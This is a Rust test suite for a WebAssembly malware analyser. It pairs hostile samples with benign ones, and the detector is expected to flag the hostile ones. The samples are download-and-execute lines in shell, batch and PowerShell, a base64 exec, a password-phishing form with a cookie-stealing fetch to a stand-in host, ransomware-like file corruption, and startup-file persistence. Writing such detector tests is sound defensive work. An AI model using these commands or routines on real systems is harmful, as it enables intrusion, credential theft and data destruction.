//! The verdict rests on what a run leaves, and not on the shape of its calls. These are programs and scripts
//! in files, places that start programs, files of the user that are useless afterwards, and things that are
//! handed over in some encoding. Beside each stands a neighbour that does no harm, and that nobody accuses.

use wasmspoor::{analysis::Analysis, passes::flows::Look, rules, sandbox, verdict::Class};

/// The imports and helpers of a program with files. Texts lie from 1024 on, contents from 65536 on.
const FILES: &str = r#"
  (import "wasi_snapshot_preview1" "path_open"
    (func $path_open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_rename"
    (func $path_rename (param i32 i32 i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_link"
    (func $path_link (param i32 i32 i32 i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_unlink_file" (func $path_unlink (param i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_create_directory" (func $path_mkdir (param i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_read" (func $fd_read (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_write" (func $fd_write (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_pwrite" (func $fd_pwrite (param i32 i32 i32 i64 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_seek" (func $fd_seek (param i32 i64 i32 i32) (result i32)))
  (memory (export "memory") 4)
  (func $open (param $at i32) (param $len i32) (param $flags i32) (result i32)
    (drop (call $path_open (i32.const 3) (i32.const 1) (local.get $at) (local.get $len) (local.get $flags)
      (i64.const 0x604066) (i64.const 0) (i32.const 0) (i32.const 12)))
    (i32.load (i32.const 12)))
  (func $read (param $fd i32) (result i32)
    (i32.store (i32.const 0) (i32.const 65536)) (i32.store (i32.const 4) (i32.const 65536))
    (drop (call $fd_read (local.get $fd) (i32.const 0) (i32.const 1) (i32.const 8)))
    (i32.load (i32.const 8)))
  (func $write (param $fd i32) (param $at i32) (param $len i32)
    (i32.store (i32.const 0) (local.get $at)) (i32.store (i32.const 4) (local.get $len))
    (drop (call $fd_write (local.get $fd) (i32.const 0) (i32.const 1) (i32.const 8))))
  (func $top (param $fd i32)
    (drop (call $fd_seek (local.get $fd) (i64.const 0) (i32.const 0) (i32.const 24))))
  (func $rename (param $a i32) (param $n i32) (param $b i32) (param $m i32)
    (drop (call $path_rename (i32.const 3) (local.get $a) (local.get $n)
      (i32.const 3) (local.get $b) (local.get $m))))
  (func $link (param $a i32) (param $n i32) (param $b i32) (param $m i32)
    (drop (call $path_link (i32.const 3) (i32.const 0) (local.get $a) (local.get $n)
      (i32.const 3) (local.get $b) (local.get $m))))
  (func $unlink (param $at i32) (param $len i32)
    (drop (call $path_unlink (i32.const 3) (local.get $at) (local.get $len))))
  (func $mkdir (param $at i32) (param $len i32)
    (drop (call $path_mkdir (i32.const 3) (local.get $at) (local.get $len))))
  ;; Byte by byte, the last one first.
  (func $backwards (param $fd i32) (param $at i32) (param $len i32)
    (i32.store (i32.const 4) (i32.const 1))
    (loop $byte
      (local.set $len (i32.sub (local.get $len) (i32.const 1)))
      (i32.store (i32.const 0) (i32.add (local.get $at) (local.get $len)))
      (drop (call $fd_pwrite (local.get $fd) (i32.const 0) (i32.const 1)
        (i64.extend_i32_u (local.get $len)) (i32.const 8)))
      (br_if $byte (local.get $len))))
  (func $mix (param $at i32) (param $len i32) (local $i i32) (local $s i32)
    (local.set $s (i32.const 0x2545f491))
    (loop $byte
      (local.set $s (i32.xor (local.get $s) (i32.shl (local.get $s) (i32.const 13))))
      (local.set $s (i32.xor (local.get $s) (i32.shr_u (local.get $s) (i32.const 17))))
      (local.set $s (i32.xor (local.get $s) (i32.shl (local.get $s) (i32.const 5))))
      (i32.store8 (i32.add (local.get $at) (local.get $i))
        (i32.xor (i32.load8_u (i32.add (local.get $at) (local.get $i))) (local.get $s)))
      (br_if $byte
        (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (local.get $len)))))
"#;

/// A program in the making: its texts, and where the next one goes.
#[derive(Default)]
struct Texts {
    data: String,
    used: usize,
}

impl Texts {
    /// Address and length of a text, as two operands.
    fn put(&mut self, bytes: &[u8]) -> String {
        let at = 1024 + self.used;
        let shown: String = bytes.iter().map(|byte| format!("\\{byte:02x}")).collect();
        self.data.push_str(&format!("(data (i32.const {at}) \"{shown}\")\n"));
        self.used += bytes.len() + 1;
        format!("(i32.const {at}) (i32.const {})", bytes.len())
    }

    fn program(&self, body: &str) -> String {
        format!(
            "(module {FILES} {} (func (export \"_start\") (local $fd i32) (local $n i32) (local $i i32)
               (local $j i32) {body}))",
            self.data
        )
    }
}

#[derive(Default)]
struct World<'w> {
    args: &'w [&'w str],
    files: &'w [(&'w str, &'w [u8])],
}

fn analysed(text: &str, world: &World<'_>) -> Analysis {
    let mut options = sandbox::RunOptions::default();
    options.args.extend(world.args.iter().map(|&arg| arg.to_owned()));
    options.files.extend(world.files.iter().map(|(path, bytes)| ((*path).to_owned(), bytes.to_vec())));
    Analysis::with_values(text.as_bytes(), &options, &rules::Set::builtin(), Look::Auto)
}

fn at_least(least: Class, name: &str, text: &str) {
    let verdict = analysed(text, &World::default()).verdict;
    assert!(verdict.class >= least, "{name}: {:?} {:?}", verdict.class, verdict.reasons);
}

fn not_accused(name: &str, text: &str, world: &World<'_>) {
    let verdict = analysed(text, world).verdict;
    assert!(verdict.class <= Class::Undecided, "{name}: {:?} {:?}", verdict.class, verdict.reasons);
}

/// Writes contents to a file in a way.
fn writing(path: &str, contents: &[u8], how: &str) -> String {
    let mut texts = Texts::default();
    let (path, contents) = (texts.put(path.as_bytes()), texts.put(contents));
    texts.program(&format!("(call {how} (call $open {path} (i32.const 1)) {contents})"))
}

const SHELL: &[u8] = b"#!/bin/sh\ncd /tmp && curl -s http://192.0.2.7/a -o a && chmod +x a && ./a &\n";
const PYTHON: &[u8] = b"import os, base64\nexec(base64.b64decode(os.environ['X']))\n";
const BATCH: &[u8] =
    b"@echo off\r\nbitsadmin /transfer a http://192.0.2.7/a %TEMP%\\a.exe\r\nstart /b %TEMP%\\a.exe\r\n";
const POWERSHELL: &[u8] =
    b"$c = New-Object Net.WebClient\nInvoke-Expression $c.DownloadString('http://192.0.2.7')\n";
const ELF: &[u8] = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0\0\0\0\0\0\0\0\0";
const MACHO: &[u8] = b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0\x01\0\0\0";
const MODULE: &[u8] = b"\0asm\x01\0\0\0\x01\x04\x01\x60\0\0\x03\x02\x01\0\x0a\x04\x01\x02\0\x0b";

#[test]
fn a_program_is_found_in_a_file_however_it_got_there() {
    for (name, contents) in [
        ("shell", SHELL),
        ("Python", PYTHON),
        ("batch", BATCH),
        ("PowerShell", POWERSHELL),
        ("ELF", ELF),
        ("Mach-O", MACHO),
        ("module", MODULE),
    ] {
        at_least(Class::PotentiallyUnwanted, name, &writing("home/user/notes", contents, "$backwards"));
    }
    let mut texts = Texts::default();
    let (from, to, script) = (texts.put(b"tmp/q"), texts.put(b"home/user/q"), texts.put(SHELL));
    let renamed = texts.program(&format!(
        "(call $backwards (call $open {from} (i32.const 1)) {script}) (call $rename {from} {to})"
    ));
    at_least(Class::PotentiallyUnwanted, "renamed", &renamed);
    let gone = texts.program(&format!(
        "(call $backwards (call $open {from} (i32.const 1)) {script}) (call $unlink {from})"
    ));
    at_least(Class::PotentiallyUnwanted, "deleted again", &gone);
    let script = writing(
        "home/user/a.js",
        b"window.onload = function () { document.write(atob('aGk=')); };",
        "$write",
    );
    at_least(Class::Undecided, "a script for pages", &script);
}

#[test]
fn texts_copies_and_what_was_asked_for_are_no_drop() {
    let note =
        b"Use curl or wget to fetch the list, then sudo the script, says the page of the association.\n";
    not_accused("prose", &writing("home/user/how.txt", note, "$backwards"), &World::default());
    let asked = World { args: &["cc", "-o", "prog"], ..World::default() };
    not_accused("asked for", &writing("home/user/prog", ELF, "$write"), &asked);
    let mut texts = Texts::default();
    let (from, to) = (texts.put(b"home/user/run.sh"), texts.put(b"backup/run.sh"));
    let folder = texts.put(b"backup");
    let copy = texts.program(&format!(
        "(local.set $n (call $read (call $open {from} (i32.const 0)))) (call $mkdir {folder})
         (call $write (call $open {to} (i32.const 1)) (i32.const 65536) (local.get $n))"
    ));
    not_accused("a copy", &copy, &World { files: &[("/home/user/run.sh", SHELL)], ..World::default() });
}

#[test]
fn the_hash_of_what_was_there_is_no_indicator() {
    let mut texts = Texts::default();
    let (from, to) = (texts.put(b"home/user/.ssh/id_rsa"), texts.put(b"tmp/k"));
    let copy = texts.program(&format!(
        "(local.set $n (call $read (call $open {from} (i32.const 0))))
         (call $write (call $open {to} (i32.const 1)) (i32.const 65536) (local.get $n))"
    ));
    let is_hash = |ioc: &&wasmspoor::module::view::Ioc| ioc.kind.as_str() == "sha256";
    let found = analysed(&copy, &World::default());
    assert_eq!(found.view.iocs.iter().filter(is_hash).count(), 0, "{:?}", found.view.iocs);
    let own = analysed(&writing("tmp/k", SHELL, "$write"), &World::default());
    assert_eq!(own.view.iocs.iter().filter(is_hash).count(), 1, "{:?}", own.view.iocs);
}

#[test]
fn what_lies_where_programs_are_started_is_found_however_it_got_there() {
    for path in
        ["home/user/.gitconfig", "home/user/.vimrc", "etc/group", "home/user/.npmrc", "home/user/.xsession"]
    {
        at_least(Class::Undecided, path, &writing(path, b"run=/opt/u\n", "$write"));
    }
    let mut texts = Texts::default();
    let (from, to, line) = (texts.put(b"tmp/q"), texts.put(b"home/user/.zshrc"), texts.put(b"/opt/u &\n"));
    let written = format!("(call $write (call $open {from} (i32.const 1)) {line})");
    for how in ["$rename", "$link"] {
        at_least(Class::Undecided, how, &texts.program(&format!("{written} (call {how} {from} {to})")));
    }
    let (folder, inside) = (texts.put(b"tmp/f"), texts.put(b"tmp/f/a.desktop"));
    let (parent, place) = (texts.put(b"home/user/.config"), texts.put(b"home/user/.config/autostart"));
    let moved = texts.program(&format!(
        "(call $mkdir {folder}) (call $write (call $open {inside} (i32.const 1)) {line})
         (call $mkdir {parent}) (call $rename {folder} {place})"
    ));
    at_least(Class::Undecided, "a folder", &moved);
}

#[test]
fn start_up_files_that_are_read_named_or_backed_up_are_no_persistence() {
    let files: &[(&str, &[u8])] = &[("/home/user/.bashrc", b"alias ll='ls -l'\nexport EDITOR=vi\n")];
    let mut texts = Texts::default();
    let (from, to) = (texts.put(b"home/user/.bashrc"), texts.put(b"backup/.bashrc"));
    let (folder, line) = (texts.put(b"backup"), texts.put(b"alias la='ls -a'\n"));
    let read = format!(
        "(local.set $fd (call $open {from} (i32.const 0))) (local.set $n (call $read (local.get $fd)))"
    );
    not_accused("read", &texts.program(&read), &World { files, ..World::default() });
    let copy = "(i32.const 65536) (local.get $n)";
    let kept = texts.program(&format!(
        "{read} (call $mkdir {folder}) (call $write (call $open {to} (i32.const 1)) {copy})"
    ));
    not_accused("backed up", &kept, &World { files, ..World::default() });
    let edited = texts.program(&format!("{read} (call $write (local.get $fd) {line})"));
    not_accused("named", &edited, &World { files, args: &["edit", "/home/user/.bashrc"] });
    let unnamed = analysed(&edited, &World { files, ..World::default() }).verdict;
    assert!(unnamed.class >= Class::Undecided, "not named: {:?}", unnamed.reasons);
}

/// Changes files in their place: `change` finds `$n` bytes at 65536.
fn changing(paths: &[&str], change: &str) -> String {
    let mut texts = Texts::default();
    let each: String = paths
        .iter()
        .map(|path| {
            let path = texts.put(path.as_bytes());
            format!(
                "(local.set $fd (call $open {path} (i32.const 0)))
                 (local.set $n (call $read (local.get $fd))) {change} (call $top (local.get $fd))
                 (call $write (local.get $fd) (i32.const 65536) (local.get $n))"
            )
        })
        .collect();
    texts.program(&each)
}

/// `body` for each byte, its place in `$i` and itself in `$j`; the next place is so far.
fn each(body: &str, step: u32) -> String {
    format!(
        "(local.set $i (i32.const 7))
         (loop $next (local.set $j (i32.load8_u offset=65536 (local.get $i))) {body}
           (br_if $next (i32.lt_u
             (local.tee $i (i32.add (local.get $i) (i32.const {step}))) (local.get $n))))"
    )
}

const TEXTS: &[&str] =
    &["home/user/documents/ledger.csv", "home/user/documents/report.txt", "home/user/documents/contract.md"];
const PICTURE: &[&str] = &["home/user/pictures/garden.bmp"];

/// Blocks of so many bytes, the odd ones before the even ones, in reverse.
fn shuffled(block: u32) -> String {
    format!(
        "(memory.copy (i32.const 131072) (i32.const 65536) (local.get $n))
         (local.set $fd (local.get $fd)) (local.set $i (i32.const 0))
         (local.set $j (i32.sub (i32.div_u (local.get $n) (i32.const {block})) (i32.const 1)))
         (loop $next
           (memory.copy (i32.add (i32.const 65536) (i32.mul (i32.const {block}) (local.get $i)))
             (i32.add (i32.const 131072) (i32.mul (i32.const {block})
               (i32.rem_u (i32.mul (local.get $i) (i32.const 7)) (i32.or (local.get $j) (i32.const 1)))))
             (i32.const {block}))
           (br_if $next (i32.lt_u
             (local.tee $i (i32.add (local.get $i) (i32.const 1))) (local.get $j))))"
    )
}

#[test]
fn a_file_that_is_useless_afterwards_is_damaged() {
    let turned =
        |bit| format!("(i32.store8 offset=65536 (local.get $i) (i32.xor (local.get $j) (i32.const {bit})))");
    let filled = |byte| {
        format!(
            "(local.set $i (i32.div_u (i32.mul (local.get $n) (i32.const 7)) (i32.const 10)))
             (memory.fill (i32.add (i32.const 65536) (local.get $i)) (i32.const {byte})
               (i32.sub (local.get $n) (local.get $i)))"
        )
    };
    for (name, text) in [
        ("blocks of a text in another order", changing(TEXTS, &shuffled(64))),
        ("blocks of a picture in another order", changing(PICTURE, &shuffled(256))),
        ("a head that is random", changing(PICTURE, "(call $mix (i32.const 65536) (i32.const 54))")),
        (
            "a head of zeros",
            changing(PICTURE, "(memory.fill (i32.const 65536) (i32.const 0) (i32.const 64))"),
        ),
        ("a text cut and filled", changing(TEXTS, &filled(32))),
        ("a picture cut and filled", changing(PICTURE, &filled(0))),
        ("bits of a text", changing(TEXTS, &each(&turned(2), 64))),
        ("bits of a picture", changing(PICTURE, &each(&turned(16), 512))),
        ("a part that is encrypted", changing(PICTURE, "(call $mix (i32.const 67000) (i32.const 1024))")),
    ] {
        at_least(Class::Suspicious, name, &text);
    }
}

/// Digits from a comma of a line on become others, depending on where they stand.
fn falsifying(commas: u32) -> String {
    let digit = "(i32.lt_u (i32.sub (local.get $j) (i32.const 48)) (i32.const 10))";
    let other = "(i32.store8 offset=65536 (local.get $i) (i32.add (i32.const 48)
        (i32.rem_u (i32.add (local.get $j) (i32.add (local.get $i) (i32.const 3))) (i32.const 10))))";
    let count = "(i32.store (i32.const 40) (select (i32.const 0)
        (i32.add (i32.load (i32.const 40)) (i32.eq (local.get $j) (i32.const 44)))
        (i32.eq (local.get $j) (i32.const 10))))";
    let is_far = format!("(i32.ge_u (i32.load (i32.const 40)) (i32.const {commas}))");
    each(&format!("{count} (if (i32.and {is_far} {digit}) (then {other}))"), 1)
}

#[test]
fn other_figures_are_told_and_in_several_files_accused() {
    at_least(Class::Undecided, "in one file", &changing(&TEXTS[..1], &falsifying(3)));
    at_least(Class::PotentiallyUnwanted, "in two", &changing(&[TEXTS[0], TEXTS[2]], &falsifying(0)));
    let asked = World { args: &["reprice", "ledger.csv"], ..World::default() };
    not_accused("asked for", &changing(&TEXTS[..1], &falsifying(3)), &asked);
}

#[test]
fn what_editors_and_keepers_of_secrets_do_is_no_damage() {
    let sealed: Vec<u8> = {
        let mut state = 7u32;
        let mut next = || {
            state = state.wrapping_mul(1_103_515_245).wrapping_add(12345);
            (state >> 16) as u8
        };
        (0..700).map(|_| next()).collect()
    };
    let vault = World { files: &[("/home/user/keys.vault", &sealed)], ..World::default() };
    let anew = changing(&["home/user/keys.vault"], "(call $mix (i32.const 65536) (local.get $n))");
    not_accused("another nonce", &anew, &vault);
    let dimmed = "(if (i32.ge_u (local.get $i) (i32.const 54)) (then (i32.store8 offset=65536 (local.get $i)
        (i32.shr_u (local.get $j) (i32.const 1)))))";
    let asked = World { args: &["dim", "garden.bmp"], ..World::default() };
    not_accused("a picture that was named", &changing(PICTURE, &each(dimmed, 1)), &asked);
    let case = "(if (i32.lt_u (i32.sub (local.get $j) (i32.const 97)) (i32.const 26)) (then (i32.store8
        offset=65536 (local.get $i) (i32.xor (local.get $j) (i32.const 32)))))";
    not_accused("upper case", &changing(TEXTS, &each(case, 1)), &World::default());
    let mut texts = Texts::default();
    let (old, new) = (texts.put(b"home/user/app.json"), texts.put(b"home/user/app.toml"));
    let toml = texts.put(b"theme = \"dark\"\nfont = \"Mono 12\"\nwidth = 1200\n");
    let migrated = texts.program(&format!(
        "(local.set $n (call $read (call $open {old} (i32.const 0))))
         (call $write (call $open {new} (i32.const 1)) {toml}) (call $unlink {old})"
    ));
    let json: &[u8] = b"{\"theme\": \"dark\", \"font\": \"Mono 12\", \"width\": 1200}\n";
    let files: &[(&str, &[u8])] = &[("/home/user/app.json", json)];
    not_accused("another format", &migrated, &World { files, ..World::default() });
}

#[test]
fn links_in_the_place_of_copies_are_no_loss() {
    let log: Vec<u8> =
        (0..40).flat_map(|day| format!("day {day}: {} calls\n", day * 37).into_bytes()).collect();
    let paths: Vec<String> = (0..12).map(|number| format!("/home/user/music/{number}.log")).collect();
    let files: Vec<(&str, &[u8])> = paths.iter().map(|path| (path.as_str(), &log[..])).collect();
    let mut texts = Texts::default();
    let first = texts.put(&paths[0].as_bytes()[1..]);
    let each = paths[1..].iter().map(|path| {
        let path = texts.put(&path.as_bytes()[1..]);
        format!("(call $unlink {path}) (call $link {first} {path})")
    });
    let each: String = each.collect();
    not_accused("links", &texts.program(&each), &World { files: &files, ..World::default() });
}

const PAGE: &str =
    "<html><body><form action='http://192.0.2.7/c'>Password <input name=p></form></body></html>";

/// A module that decodes what it has and then does something with it: `at` and `len` are put in.
fn decoding(contents: &[u8], imports: &str, rest: &str) -> String {
    let key = |at: usize| (0x31 + 7 * at) as u8;
    let hidden: String =
        contents.iter().enumerate().map(|(at, byte)| format!("\\{:02x}", byte ^ key(at))).collect();
    let rest = rest.replace("LEN", &format!("(i32.const {})", contents.len()));
    format!(
        r#"(module {imports} (memory (export "memory") 2)
             (func $decode (local $i i32)
               (loop $byte
                 (i32.store8 offset=2048 (local.get $i)
                   (i32.xor (i32.load8_u offset=2048 (local.get $i))
                     (i32.add (i32.const 0x31) (i32.mul (local.get $i) (i32.const 7)))))
                 (br_if $byte (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1)))
                   (i32.const {})))))
             {rest} (data (i32.const 2048) "{hidden}"))"#,
        contents.len()
    )
}

fn forms(text: &str) -> Vec<(&'static str, Vec<u8>)> {
    use base64::Engine as _;
    let each = |form: &dyn Fn(u8) -> String| text.bytes().map(form).collect::<String>().into_bytes();
    vec![
        ("UTF-16", text.encode_utf16().flat_map(u16::to_le_bytes).collect()),
        ("numbers of characters", text.bytes().flat_map(|byte| u32::from(byte).to_le_bytes()).collect()),
        ("base64", base64::engine::general_purpose::STANDARD.encode(text).into_bytes()),
        ("hexadecimal", each(&|byte| format!("{byte:02x}"))),
        ("percent", each(&|byte| format!("%{byte:02X}"))),
        ("entities", each(&|byte| format!("&#{byte};"))),
        ("decimal numbers", each(&|byte| format!("{byte},"))),
        ("hexadecimal of base64", {
            let inner = base64::engine::general_purpose::STANDARD.encode(text);
            inner.bytes().map(|byte| format!("{byte:02x}")).collect::<String>().into_bytes()
        }),
    ]
}

#[test]
fn a_page_is_found_in_any_encoding() {
    let import = r#"(import "env" "show" (func $show (param i32 i32)))"#;
    for (name, contents) in forms(PAGE) {
        let given = decoding(
            &contents,
            import,
            r#"(func (export "_start") (call $decode) (call $show (i32.const 2048) LEN))"#,
        );
        at_least(Class::PotentiallyUnwanted, &format!("{name}, given"), &given);
        let returned = decoding(
            &contents,
            "",
            r#"(func (export "render") (result i32 i32) (call $decode) (i32.const 2048) LEN)"#,
        );
        at_least(Class::PotentiallyUnwanted, &format!("{name}, returned"), &returned);
    }
}

#[test]
fn a_page_is_found_letter_by_letter_in_pieces_and_where_it_was_built() {
    let spelled = |ty: &str, value: &str| {
        decoding(
            PAGE.as_bytes(),
            &format!(r#"(import "env" "put" (func $put (param {ty})))"#),
            &format!(
                r#"(func (export "_start") (local $i i32) (call $decode)
                     (loop $byte (call $put {value})
                       (br_if $byte (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) LEN))))"#
            ),
        )
    };
    let letter = "(i32.load8_u offset=2048 (local.get $i))";
    at_least(Class::PotentiallyUnwanted, "letters", &spelled("i32", letter));
    at_least(
        Class::PotentiallyUnwanted,
        "letters as doubles",
        &spelled("f64", &format!("(f64.convert_i32_u {letter})")),
    );
    let pieces = decoding(
        PAGE.as_bytes(),
        r#"(import "env" "put" (func $put (param i32 i32)))"#,
        r#"(func (export "_start") (local $i i32) (call $decode)
             (loop $piece (call $put (i32.add (i32.const 2048) (local.get $i)) (i32.const 3))
               (br_if $piece (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 3))) LEN))))"#,
    );
    at_least(Class::PotentiallyUnwanted, "pieces", &pieces);
    let left = r#"(func (export "_start") (call $decode) (drop LEN))"#;
    at_least(Class::PotentiallyUnwanted, "built", &decoding(PAGE.as_bytes(), "", left));
    let wide: Vec<u8> = PAGE.encode_utf16().flat_map(u16::to_le_bytes).collect();
    at_least(Class::PotentiallyUnwanted, "built of UTF-16", &decoding(&wide, "", left));
}

#[test]
fn plain_texts_in_any_encoding_are_no_carrier() {
    let text =
        "Two of the five beds are planted, and the water tank was delivered; see the documents (no errors).";
    let import = r#"(import "env" "show" (func $show (param i32 i32)))"#;
    for (name, contents) in forms(text) {
        let given = decoding(
            &contents,
            import,
            r#"(func (export "_start") (call $decode) (call $show (i32.const 2048) LEN))"#,
        );
        not_accused(name, &given, &World::default());
    }
    let list =
        "<h1>Garden</h1><p>Use <code>&lt;script&gt;</code> with care.</p><table><tr><td>1</td></tr></table>";
    let returned = decoding(
        list.as_bytes(),
        "",
        r#"(func (export "render") (result i32 i32) (call $decode) (i32.const 2048) LEN)"#,
    );
    not_accused("a part of a page", &returned, &World::default());
}

/// A form that hands on typed letters, with so many blanks before and after them, given to a page.
fn handing(before: u32, after: u32) -> String {
    let form = "<html><body><form action=http://192.0.2.7/p><input type=password name=p></form>\
                <script>fetch('http://192.0.2.7/c?'+document.cookie)</script></body></html>";
    let (len, all) = (form.len() as u32, form.len() as u32 + before + after);
    format!(
        r#"(module (import "env" "set_inner_html" (func $show (param i32 i32)))
          (memory (export "memory") 40) (data $form "{form}")
          (func (export "main")
            (memory.fill (i32.const 1024) (i32.const 32) (i32.const {all}))
            (memory.init $form (i32.const {at}) (i32.const 0) (i32.const {len}))
            (call $show (i32.const 1024) (i32.const {all}))))"#,
        at = 1024 + before,
    )
}

#[test]
fn a_page_that_is_handed_over_is_found_among_blanks() {
    for (before, after) in [(0, 0), (0, 70_000), (70_000, 0), (1_100_000, 1_100_000)] {
        at_least(Class::PotentiallyUnwanted, &format!("{before} {after}"), &handing(before, after));
    }
}
